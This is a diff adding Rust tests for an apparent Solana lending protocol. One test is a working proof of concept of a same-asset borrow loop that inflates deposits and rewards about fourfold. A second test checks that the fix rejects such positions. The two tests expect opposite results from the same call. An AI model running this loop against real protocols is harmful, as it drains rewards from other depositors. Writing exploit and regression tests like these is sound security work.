@@ -0,0 +1,47 @@
+#[tokio::test]
+async fn test_same_asset_loop_exploit() {
+    println!("\n=== EXPLOIT: Borrowing SOL Against SOL In A Loop ===\n");
+
+    let mallory = Keypair::new();
+    let sol_market = create_market(&WSOL_MINT, 150_000_000, 1_000_000 * LAMPORTS_PER_SOL).await;
+
+    println!("1. Open a SOL/SOL position and deposit 100,000 SOL");
+    // Vulnerable: collateral_mint == debt_mint accepted
+    open_position(&mallory, &WSOL_MINT, &WSOL_MINT).await.unwrap();
+    let mut amount = 100_000 * LAMPORTS_PER_SOL;
+    deposit(&mallory, amount).await.unwrap();
+
+    println!("\n2. Loop borrow 75% -> deposit, twenty times");
+    for _ in 0..20 {
+        amount = amount * 75 / 100;
+        borrow(&mallory, amount).await.unwrap();
+        deposit(&mallory, amount).await.unwrap();
+    }
+
+    let position = get_position(&mallory.pubkey()).await;
+    assert!(position.collateral > 390_000 * LAMPORTS_PER_SOL);
+    assert!(get_market(&sol_market).await.total_deposits > 1_390_000 * LAMPORTS_PER_SOL);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ ~4x deposits and rewards from the same 100,000 SOL");
+}
+
+#[tokio::test]
+async fn test_same_asset_position_rejected() {
+    println!("\n=== SECURITY: Collateral And Debt Must Differ ===\n");
+
+    let mallory = Keypair::new();
+    create_market(&WSOL_MINT, 150_000_000, 1_000_000 * LAMPORTS_PER_SOL).await;
+    create_market(&USDC_MINT, 1_000_000, 1_000_000_000_000).await;
+
+    println!("1. Open a SOL/SOL position");
+    let result = open_position(&mallory, &WSOL_MINT, &WSOL_MINT).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: CircularLending");
+
+    println!("\n2. Open a SOL/USDC position");
+    open_position(&mallory, &WSOL_MINT, &USDC_MINT).await.unwrap();
+    let position = get_position(&mallory.pubkey()).await;
+    assert_ne!(position.collateral_mint, position.debt_mint);
+    println!("   ✓ Position opened");
+}